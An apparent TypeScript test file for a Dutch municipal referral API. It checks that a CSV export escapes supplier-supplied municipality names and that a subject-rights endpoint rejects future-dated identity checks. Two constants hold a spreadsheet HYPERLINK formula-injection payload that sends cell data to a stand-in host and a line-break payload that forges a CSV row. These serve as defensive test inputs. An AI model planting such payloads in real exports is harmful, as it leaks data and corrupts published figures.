import assert from 'node:assert/strict';
import { before, describe, it } from 'node:test';
import { parse } from 'csv-parse/sync';
import request from 'supertest';
import { testBsn } from '../support/bsn.js';
import { assertProblem } from '../support/problem-assertions.js';
import { useTestApp } from '../support/test-app.js';

const K = 3;
const t = useTestApp({ env: { KNOOPPUNT_SIGNAAL_K: String(K) } });
const as = {} as Record<'politie' | 'beleid', Record<string, string>>;

// A supplier names the gemeente of an aanmelding in free text; these two try to run a formula in the
// beleidsmedewerker's spreadsheet and to forge a row of the published counts.
const QUOTED_FORMULA = '"=HYPERLINK(""https://nosy.example/?x=""&A1;""MARKER-FORMULE"")"';
const FORGED_ROW = 'Nepdorp\r\n2099-Q4;druggebruik;MARKER-NEPSTAD;999';

async function refer(gemeente: string, n: number): Promise<void> {
  const res = await request(t.app)
    .post('/api/v1/aanmeldingen')
    .set(as.politie)
    .send({
      soort: 'persoon',
      gemeente,
      reden: `MARKER-REDEN-${n}`,
      leefgebieden: ['druggebruik'],
      betrokkenen: [{ ref: 'p', voornamen: `MARKER-NAAM-${n}`, achternaam: 'Nosy', geboortedatum: '1980-01-01' }],
    });
  assert.equal(res.status, 201, res.text);
}

function quarter(): { van: string; tot: string } {
  const now = t.clock.now();
  const q = Math.floor(now.getUTCMonth() / 3);
  const day = (d: Date) => d.toISOString().slice(0, 10);
  return {
    van: day(new Date(Date.UTC(now.getUTCFullYear(), q * 3, 1))),
    tot: day(new Date(Date.UTC(now.getUTCFullYear(), q * 3 + 3, 0))),
  };
}

describe('a nosy supplier against the signaalfunctie CSV', () => {
  before(async () => {
    as.politie = await t.tokenHeaders('politie-demo', 'medewerker');
    as.beleid = await t.tokenHeaders('gemeente-demo', 'beleidsmedewerker');
    let n = 0;
    for (const gemeente of [QUOTED_FORMULA, FORGED_ROW]) for (let i = 0; i < K; i++) await refer(gemeente, n++);
  });

  it('publishes a gemeente named by a supplier as one inert text cell: no formula, no extra row', async () => {
    const res = await request(t.app)
      .get('/api/v1/signaalfunctie')
      .query({ ...quarter(), indeling: 'leefgebied' })
      .set(as.beleid)
      .set('Accept', 'text/csv');
    assert.equal(res.status, 200, res.text);
    const rows = parse(res.text, { delimiter: ';', relax_column_count: true }) as string[][];
    for (const row of rows) {
      assert.equal(row.length, 4, `every line has four cells: ${JSON.stringify(row)}`);
      for (const cell of row) assert.doesNotMatch(cell, /^[=+\-@\t\r]/, `a spreadsheet would run ${cell}`);
    }
    assert.ok(!rows.some((r) => r[0] === '2099-Q4'), 'no row of a quarter the supplier made up');
    assert.ok(
      rows.some((r) => r[2] === FORGED_ROW),
      'the forged gemeente stays one cell with its line break inside',
    );
    for (const marker of ['MARKER-NAAM', 'MARKER-REDEN'])
      assert.doesNotMatch(res.text, new RegExp(marker), `${marker} does not appear`);
    const logs = t.logLines().join('\n');
    for (const marker of ['MARKER-NAAM', 'MARKER-REDEN', 'MARKER-FORMULE', 'MARKER-NEPSTAD'])
      assert.ok(!logs.includes(marker), `no log line carries ${marker}`);
  });
});

describe("a privacy officer against a subject-rights request's history", () => {
  it('cannot record an identity check that has not happened yet (400 naming /identiteit/op)', async () => {
    const fg = await t.tokenHeaders('zvh-demo', 'privacy-officer');
    const morgen = new Date(t.clock.now().getTime() + 86_400_000).toISOString();
    const res = await request(t.app)
      .post('/api/v1/verzoeken')
      .set(fg)
      .send({ soort: 'inzage', bsn: testBsn(901), identiteit: { methode: 'digid', op: morgen } });
    assertProblem(res, 400, 'invalid-request');
    assert.deepEqual(
      res.body.invalidParams?.map((p: { name: string }) => p.name),
      ['/identiteit/op'],
      res.text,
    );
    const gisteren = new Date(t.clock.now().getTime() - 86_400_000).toISOString();
    const ok = await request(t.app)
      .post('/api/v1/verzoeken')
      .set(fg)
      .send({ soort: 'inzage', bsn: testBsn(902), identiteit: { methode: 'digid', op: gisteren } });
    assert.equal(ok.status, 201, ok.text);
  });
});
